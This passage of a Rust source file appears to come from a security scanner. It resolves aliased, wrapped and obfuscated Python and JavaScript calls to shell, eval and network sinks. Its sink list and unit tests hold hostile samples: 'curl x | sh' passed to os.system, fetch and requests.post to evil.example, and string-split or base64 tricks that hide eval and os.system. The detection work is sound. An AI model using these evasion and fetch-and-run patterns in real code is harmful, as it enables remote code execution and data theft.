        out.push_str(&t.value);
    }
    (tokens.len() % 2 == 1).then_some(out)
}

/// The names of every function's parameters in the file.
fn params(tokens: &[Token], lang: Lang) -> HashSet<String> {
    let mut out = HashSet::new();
    for (i, t) in tokens.iter().enumerate() {
        let opens = match lang {
            Lang::Python => t.value == "def" || t.value == "lambda",
            Lang::Js => t.value == "function" || t.value == "=>",
        };
        if t.kind != Kind::Ident && t.value != "=>" || !opens {
            continue;
        }
        for p in function_params(tokens, i, lang).unwrap_or_default() {
            out.insert(p);
        }
    }
    out
}

/// The parameters of the function defined at token `i` (`def`,
/// `function`, or an arrow's `=>`).
pub(crate) fn function_params(tokens: &[Token], i: usize, lang: Lang) -> Option<Vec<String>> {
    let names = |range: Range<usize>| -> Vec<String> {
        let mut out = Vec::new();
        let mut expect = true;
        let mut depth = 0usize;
        for t in tokens.get(range).unwrap_or(&[]) {
            match t.value.as_str() {
                "(" | "[" | "{" => depth += 1,
                ")" | "]" | "}" => depth = depth.saturating_sub(1),
                "," if depth == 0 => expect = true,
                "=" | ":" if depth == 0 => expect = false,
                _ if t.kind == Kind::Ident && expect && depth == 0 => {
                    if t.value != "self" && t.value != "cls" {
                        out.push(t.value.clone());
                    }
                    expect = false;
                }
                _ => {}
            }
        }
        out
    };
    if tokens.get(i)?.value == "=>" {
        // `(a, b) =>` or `a =>`.
        let before = tokens.get(i.checked_sub(1)?)?;
        if before.kind == Kind::Ident {
            return Some(vec![before.value.clone()]);
        }
        if before.value != ")" {
            return None;
        }
        let mut depth = 0usize;
        let mut k = i - 1;
        let mut steps = 0;
        loop {
            match tokens.get(k)?.value.as_str() {
                ")" => depth += 1,
                "(" => {
                    depth -= 1;
                    if depth == 0 {
                        return Some(names(k + 1..i - 1));
                    }
                }
                _ => {}
            }
            steps += 1;
            if steps > 256 {
                return None;
            }
            k = k.checked_sub(1)?;
        }
    }
    let mut open = i + 1;
    if lang == Lang::Js || tokens.get(i)?.value == "def" {
        while tokens.get(open).is_some_and(|t| t.value != "(") && open < i + 3 {
            open += 1;
        }
    }
    if lang == Lang::Python && tokens.get(i)?.value == "lambda" {
        let end = tokens
            .iter()
            .skip(i + 1)
            .take(64)
            .position(|t| t.value == ":")?;
        return Some(names(i + 1..i + 1 + end));
    }
    if tokens.get(open)?.value != "(" {
        return None;
    }
    let mut depth = 0usize;
    for (k, t) in tokens.iter().enumerate().skip(open).take(512) {
        match t.value.as_str() {
            "(" => depth += 1,
            ")" => {
                depth -= 1;
                if depth == 0 {
                    return Some(names(open + 1..k));
                }
            }
            _ => {}
        }
    }
    None
}

/// Whether a call hands its arguments to a shell, an evaluator or the
/// network: a process started without a shell (`subprocess.run([...])`,
/// `spawn(cmd, args)`) runs no command line, unless `shell` is set.
pub(crate) fn sink_of(name: &str, args: &[Token], lang: Lang) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name);
    let shell = args
        .iter()
        .any(|a| a.kind == Kind::Ident && a.value == "shell");
    match lang {
        Lang::Python => {
            shell
                && matches!(
                    name,
                    "subprocess.run"
                        | "subprocess.call"
                        | "subprocess.check_call"
                        | "subprocess.check_output"
                        | "subprocess.Popen"
                )
                || matches!(
                    name,
                    "os.system"
                        | "os.popen"
                        | "subprocess.getoutput"
                        | "subprocess.getstatusoutput"
                        | "pty.spawn"
                        | "exec"
                        | "eval"
                        | "compile"
                        | "requests.post"
                        | "requests.put"
                        | "requests.patch"
                        | "requests.request"
                        | "httpx.post"
                        | "httpx.put"
                        | "urllib.request.urlopen"
                        | "urllib.request.Request"
                )
                || matches!(last, "sendall" | "sendto" | "sendmail")
        }
        Lang::Js => {
            (matches!(last, "exec" | "execSync")
                || shell && matches!(last, "spawn" | "spawnSync" | "execFile" | "execFileSync"))
                && (name.starts_with("child_process") || !name.contains('.'))
                || matches!(
                    name,
                    "eval" | "Function" | "fetch" | "axios.post" | "sendBeacon"
                )
                || (last == "request" || last == "post") && name.contains("http")
        }
    }
}

/// Wrappers: calls of functions that hand a parameter to a sink are
/// rewritten as calls of the sink, for [`ROUNDS`] levels.
fn wrappers(src: &str, norm: &mut Norm, lang: Lang, modules: &Modules) {
    for _ in 0..ROUNDS {
        norm.summaries = summaries(src, &norm.tokens, lang, &norm.summaries);
        if !rename(norm, modules) {
            break;
        }
    }
}

/// The functions of `tokens` that hand a parameter to a sink (or to a
/// function of `known` that does).
fn summaries(
    src: &str,
    tokens: &[Token],
    lang: Lang,
    known: &HashMap<String, String>,
) -> HashMap<String, String> {
    struct Open {
        name: String,
        params: Vec<String>,
        /// Python: the indentation of the `def`; JavaScript: the brace
        /// depth outside the body.
        level: usize,
        /// JavaScript: whether the body's `{` was seen.
        started: bool,
        /// JavaScript: an arrow whose body is an expression, which ends
        /// with its line.
        expr: bool,
    }
    let mut out: HashMap<String, String> = known.clone();
    let mut stack: Vec<Open> = Vec::new();
    let mut braces = 0usize;
    let mut line_start = true;
    for (i, t) in tokens.iter().enumerate() {
        match lang {
            Lang::Python => {
                if t.kind == Kind::Newline {
                    line_start = true;
                    continue;
                }
                if line_start {
                    line_start = false;
                    let indent = lex::python::indent_of(src, t.span.start);
                    while stack.last().is_some_and(|f| indent <= f.level) {
                        stack.pop();
                    }
                    if t.value == "def"
                        || (t.value == "async"
                            && tokens.get(i + 1).is_some_and(|n| n.value == "def"))
                    {
                        let at = if t.value == "async" { i + 1 } else { i };
                        if let (Some(name), Some(params)) =
                            (tokens.get(at + 1), function_params(tokens, at, lang))
                        {
                            stack.push(Open {
                                name: name.value.clone(),
                                params,
                                level: indent,
                                started: true,
                                expr: false,
                            });
                        }
                    }
                }
            }
            Lang::Js => {
                if (t.kind == Kind::Newline || t.value == ";")
                    && stack
                        .last()
                        .is_some_and(|f| !f.started && f.level == braces)
                    && stack.last().is_some_and(|f| f.expr)
                {
                    stack.pop();
                }
                match t.value.as_str() {
                    "{" if t.kind == Kind::Punct => {
                        braces += 1;
                        if let Some(f) = stack.last_mut().filter(|f| !f.started && !f.expr) {
                            f.started = true;
                            f.level = braces - 1;
                        }
                    }
                    "}" if t.kind == Kind::Punct => {
                        braces = braces.saturating_sub(1);
                        while stack.last().is_some_and(|f| f.started && braces <= f.level) {
                            stack.pop();
                        }
                    }
                    _ => {}
                }
                let named = if t.value == "function" {
                    tokens.get(i + 1).filter(|n| n.kind == Kind::Ident).cloned()
                } else if t.value == "=>" {
                    // `const name = (…) =>`.
                    tokens[..i]
                        .iter()
                        .rev()
                        .take(64)
                        .position(|p| p.value == "=")
                        .and_then(|k| tokens.get(i.checked_sub(k + 2)?))
                        .filter(|n| n.kind == Kind::Ident)
                        .cloned()
                } else {
                    None
                };
                if let Some(name) = named
                    && let Some(params) = function_params(tokens, i, lang)
                {
                    let expr = t.value == "=>" && tokens.get(i + 1).is_some_and(|n| n.value != "{");
                    stack.push(Open {
                        name: name.value,
                        params,
                        level: braces,
                        started: false,
                        expr,
                    });
                }
            }
        }
        let Some(f) = stack.last() else {
            continue;
        };
        if t.kind != Kind::Ident
            || i > 0 && tokens[i - 1].value == "."
            || out.contains_key(&f.name)
            || f.params.is_empty()
        {
            continue;
        }
        let (name, end) = dotted_at(tokens, i);
        if tokens.get(end).is_none_or(|n| n.value != "(") {
            continue;
        }
        let args = call_span(tokens, end);
        let sink = if sink_of(&name, tokens.get(args.clone()).unwrap_or(&[]), lang) {
            // A call that runs a shell only with `shell` set stands for a
            // shell: its wrapper's callers call one.
            match (lang, name.as_str()) {
                (Lang::Python, n) if n.starts_with("subprocess.") => "os.system".to_string(),
                (Lang::Js, n)
                    if n.ends_with("spawn")
                        || n.contains("execFile")
                        || n.ends_with("spawnSync") =>
                {
                    "child_process.execSync".to_string()
                }
                _ => name,
            }
        } else if let Some(s) = known.get(&name) {
            s.clone()
        } else {
            continue;
        };
        let passes = outside_auth(tokens.get(args).unwrap_or(&[])).any(|a| {
            (a.kind == Kind::Ident && f.params.contains(&a.value))
                || (a.kind == Kind::Str
                    && f.params.iter().any(|p| {
                        a.value.contains(&format!("{{{p}}}"))
                            || a.value.contains(&format!("${{{p}}}"))
                    }))
        });
        if passes {
            out.insert(f.name.clone(), sink);
        }
    }
    out
}

/// The arguments of a call but the values of `headers=`, `auth=` and
/// `headers:` (a parameter there authenticates the call, it is not sent
/// as data).
fn outside_auth(args: &[Token]) -> impl Iterator<Item = &Token> {
    let mut skip_depth: Option<i32> = None;
    let mut depth = 0i32;
    args.iter().enumerate().filter_map(move |(k, a)| {
        let starts = a.kind == Kind::Ident
            && matches!(a.value.as_str(), "headers" | "auth" | "Authorization")
            && args
                .get(k + 1)
                .is_some_and(|n| n.value == "=" || n.value == ":");
        if starts && skip_depth.is_none() {
            skip_depth = Some(depth);
        }
        match a.value.as_str() {
            "(" | "[" | "{" => depth += 1,
            ")" | "]" | "}" => depth -= 1,
            "," if skip_depth.is_some_and(|d| depth <= d) => skip_depth = None,
            _ => {}
        }
        if skip_depth.is_some_and(|d| depth < d) {
            skip_depth = None;
        }
        skip_depth.is_none().then_some(a)
    })
}

/// The argument tokens of the call whose `(` is at `open`.
fn call_span(tokens: &[Token], open: usize) -> Range<usize> {
    let mut depth = 0usize;
    for (k, t) in tokens.iter().enumerate().skip(open).take(4096) {
        match t.value.as_str() {
            "(" | "[" | "{" => depth += 1,
            ")" | "]" | "}" => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return open + 1..k;
                }
            }
            _ => {}
        }
    }
    open + 1..open + 1
}

/// Rewrites calls of summarized wrappers as calls of their sinks; whether
/// any was.
fn rename(norm: &mut Norm, modules: &Modules) -> bool {
    // Most rounds rename nothing: the tokens then stay as they are.
    if norm.origin.len() == norm.tokens.len() && !renames(norm, modules) {
        return false;
    }
    let mut tokens = Vec::with_capacity(norm.tokens.len());
    let mut origin = Vec::with_capacity(norm.origin.len());
    let mut changed = false;
    let mut i = 0;
    let old = std::mem::take(&mut norm.tokens);
    let old_origin = std::mem::take(&mut norm.origin);
    while let Some(t) = old.get(i) {
        let defines = i > 0 && matches!(old[i - 1].value.as_str(), "def" | "function" | ".");
        if t.kind == Kind::Ident && !defines {
            let (name, end) = dotted_at(&old, i);
            let called = old.get(end).is_some_and(|n| n.value == "(");
            let sink = if !called {
                None
            } else if let Some(s) = norm.summaries.get(&name) {
                Some(s.clone())
            } else {
                name.rsplit_once('.')
                    .and_then(|(m, f)| modules.sink(m, f))
                    .map(str::to_string)
            };
            if let Some(sink) = sink.filter(|s| *s != name) {
                let span = t.span.start..old.get(end - 1).map_or(t.span.end, |e| e.span.end);
                norm.wrapped.push(Wrapped {
                    span: span.clone(),
                    wrapper: name,
                });
                for (k, part) in sink.split('.').enumerate() {
                    if k > 0 {
                        tokens.push(Token {
                            kind: Kind::Punct,
                            span: span.clone(),
                            value: ".".into(),
                        });
                        origin.push(Origin::Resolved);
                    }
                    tokens.push(Token {
                        kind: Kind::Ident,
                        span: span.clone(),
                        value: part.into(),
                    });
                    origin.push(Origin::Resolved);
                }
                changed = true;
                i = end;
                continue;
            }
        }
        tokens.push(t.clone());
        origin.push(old_origin.get(i).copied().unwrap_or(Origin::Source));
        i += 1;
    }
    norm.tokens = tokens;
    norm.origin = origin;
    changed
}

/// Whether [`rename`] would rewrite a call of `norm`: the same walk,
/// without building the result.
fn renames(norm: &Norm, modules: &Modules) -> bool {
    let tokens = &norm.tokens;
    let mut i = 0;
    while let Some(t) = tokens.get(i) {
        let defines = i
            .checked_sub(1)
            .and_then(|p| tokens.get(p))
            .is_some_and(|p| matches!(p.value.as_str(), "def" | "function" | "."));
        if t.kind == Kind::Ident && !defines {
            let end = dotted_end(tokens, i);
            if tokens.get(end).is_some_and(|n| n.value == "(") {
                let (name, _) = dotted_at(tokens, i);
                let sink = match norm.summaries.get(&name) {
                    Some(s) => Some(s.as_str()),
                    None => name.rsplit_once('.').and_then(|(m, f)| modules.sink(m, f)),
                };
                if sink.is_some_and(|s| s != name) {
                    return true;
                }
            }
        }
        i += 1;
    }
    false
}

/// Where [`dotted_at`]'s name starting at `i` ends, without building it.
fn dotted_end(tokens: &[Token], i: usize) -> usize {
    let mut len = tokens.get(i).map_or(0, |t| t.value.len());
    let mut j = i + 1;
    while tokens.get(j).is_some_and(|t| t.value == ".")
        && let Some(next) = tokens.get(j + 1).filter(|t| t.kind == Kind::Ident)
    {
        if len > 256 {
            break;
        }
        len += 1 + next.value.len();
        j += 2;
    }
    j
}

#[cfg(test)]
mod tests {
    use super::*;

    fn norm(lang: Lang, src: &str) -> Norm {
        normalize(src, &tokens(src, lang), lang, &Modules::default())
    }

    /// The normalized tokens' values joined by spaces.
    fn text(lang: Lang, src: &str) -> String {
        norm(lang, src)
            .tokens
            .iter()
            .filter(|t| t.kind != Kind::Newline)
            .map(|t| t.value.as_str())
            .collect::<Vec<_>>()
            .join(" ")
    }

    #[test]
    fn python_aliases_resolve() {
        assert!(
            text(Lang::Python, "import subprocess as sp\nsp.run(x)")
                .ends_with("subprocess . run ( x )")
        );
        assert!(
            text(Lang::Python, "from os import system as run\nrun(x)")
                .ends_with("os . system ( x )")
        );
        assert!(
            text(Lang::Python, "import os\ns = os.system\ns(x)").ends_with("os . system ( x )")
        );
        assert!(text(Lang::Python, "e = eval\ne(x)").ends_with("eval ( x )"));
        // A local name is not an alias.
        assert!(
            text(Lang::Python, "client = self.client\nclient.post(x)")
                .ends_with("client . post ( x )")
        );
    }

    #[test]
    fn python_lookups_resolve() {
        let n = norm(Lang::Python, "import os\ngetattr(os, 'sys' + 'tem')('id')");
        assert_eq!(n.lookups.len(), 1);
        assert_eq!(
            (n.lookups[0].target.as_str(), n.lookups[0].computed),
            ("os.system", true)
        );
        assert!(
            text(Lang::Python, "__import__('o' + 's').system('id')").contains("os . system ( id )")
        );
        assert!(
            text(
                Lang::Python,
                "import builtins\nvars(builtins)['ex' + 'ec'](c)"
            )
            .contains("exec ( c )")
        );
        assert!(text(Lang::Python, "globals()['__builtins__']['eval'](c)").contains("eval ( c )"));
        assert!(text(Lang::Python, "__builtins__.__dict__['exec'](c)").contains("exec ( c )"));
        assert!(
            text(Lang::Python, "importlib.import_module('subprocess').run(c)")
                .contains("subprocess . run")
        );
        // Dispatch on a variable name stays as written.
        let n = norm(Lang::Python, "getattr(self, name)(x)");
        assert!(n.lookups.is_empty());
        assert!(text(Lang::Python, "getattr(self, 'handle_' + kind)()").starts_with("getattr"));
    }

    #[test]
    fn javascript_names_resolve() {
        assert!(
            text(
                Lang::Js,
                "const cp = require('child_' + 'process');\ncp.exec(c)"
            )
            .ends_with("child_process . exec ( c )")
        );
        assert!(
            text(
                Lang::Js,
                "const {exec: e} = require('child_process');\ne(c)"
            )
            .ends_with("child_process . exec ( c )")
        );
        assert!(
            text(
                Lang::Js,
                "import * as x from 'child_process';\nx.execSync(c)"
            )
            .ends_with("child_process . execSync ( c )")
        );
        assert!(
            text(
                Lang::Js,
                "import {exec as run} from 'node:child_process'\nrun(c)"
            )
            .ends_with("child_process . exec ( c )")
        );
        assert!(text(Lang::Js, "global['ev' + 'al'](c)").starts_with("eval ( c )"));
        assert!(text(Lang::Js, "globalThis[atob('ZXZhbA==')](c)").starts_with("eval ( c )"));
        assert!(
            text(Lang::Js, "process['binding']('spawn_sync')").starts_with("process . binding")
        );
        assert!(
            text(Lang::Js, "const p = path.join(__dirname, 'x')")
                .ends_with("path . join ( __dirname , x )")
        );
        assert!(
            text(Lang::Js, "const env = options.env || process.env")
                .ends_with("options . env | | process . env")
        );
    }

    #[test]
    fn constants_fold_into_their_uses() {
        assert!(
            text(Lang::Python, "a = 'cu'\na += 'rl'\nos.system(a + ' x|sh')")
                .ends_with("os . system ( curl x|sh )")
        );
        assert!(
            text(
                Lang::Js,
                "const h = 'evil.example';\nfetch(`https://${h}/x`)"
            )
            .ends_with("fetch ( https://evil.example/x )")
        );
        // A parameter of the same name is not the constant.
        assert!(
            text(Lang::Python, "cmd = 'ls'\ndef f(cmd):\n    os.system(cmd)")
                .ends_with("os . system ( cmd )")
        );
    }

    #[test]
    fn wrappers_become_their_sinks() {
        let src = "import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\ndef go(c):\n    run(c)\ngo('curl x | sh')\n";
        let t = text(Lang::Python, src);
        assert!(t.ends_with("os . system ( curl x | sh )"), "{t}");
        let src = "function sh(c) { return execSync(c) }\nconst go = (c) => { sh(c) }\ngo('id')";
        assert!(text(Lang::Js, src).ends_with("execSync ( id )"));
        // A function whose parameter reaches no sink stays.
        assert!(text(Lang::Python, "def run(x):\n    print(x)\nrun('a')").ends_with("run ( a )"));
    }

    #[test]
    fn modules_export_wrappers_and_constants() {
        let utils = "import os\nURL = 'https://evil.example/in'\ndef run(c):\n    os.system(c)\n";
        let files = [("scripts/utils.py", utils.as_bytes())];
        let modules = Modules::of(&files, 1 << 20);
        let main = "from utils import run, URL\nrun('id')\nrequests.post(URL)\n";
        let n = normalize(main, &tokens(main, Lang::Python), Lang::Python, &modules);
        let t: Vec<&str> = n.tokens.iter().map(|t| t.value.as_str()).collect();
        assert!(t.windows(3).any(|w| w == ["os", ".", "system"]), "{t:?}");
        assert!(t.contains(&"https://evil.example/in"), "{t:?}");
        let lib = "const cp = require('child_process');\nmodule.exports.sh = (c) => cp.execSync(c);\nfunction sh(c) { cp.execSync(c) }";
        let files = [("lib/index.js", lib.as_bytes())];
        let modules = Modules::of(&files, 1 << 20);
        let main = "const lib = require('./lib');\nlib.sh('id')";
        let n = normalize(main, &tokens(main, Lang::Js), Lang::Js, &modules);
        let t: Vec<&str> = n.tokens.iter().map(|t| t.value.as_str()).collect();
        assert!(
            t.windows(3)
                .any(|w| w == ["child_process", ".", "execSync"]),
            "{t:?}"
        );
    }

    #[test]
    fn operator_lookups_resolve() {
        let t = text(
            Lang::Python,
            "import operator\nf = operator.methodcaller('po' + 'pen', 'id')\nf(os)",
        );
        assert!(t.contains("os . popen ( id )"), "{t}");
        let t = text(
            Lang::Python,
            "import operator, os\noperator.attrgetter('sys' + 'tem')(os)('id')",
        );
        assert!(t.contains("os . system ( id )"), "{t}");
    }
}
